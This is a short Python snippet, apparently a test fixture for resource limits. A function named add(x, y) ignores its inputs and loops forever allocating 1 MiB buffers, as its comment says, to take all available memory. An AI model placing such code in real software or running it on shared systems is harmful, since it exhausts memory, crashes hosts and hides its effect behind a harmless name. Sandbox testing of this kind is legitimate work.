# Takes all memory that there is.
def add(x, y):
    kept = []
    while True:
        kept.append(bytearray(1 << 20))
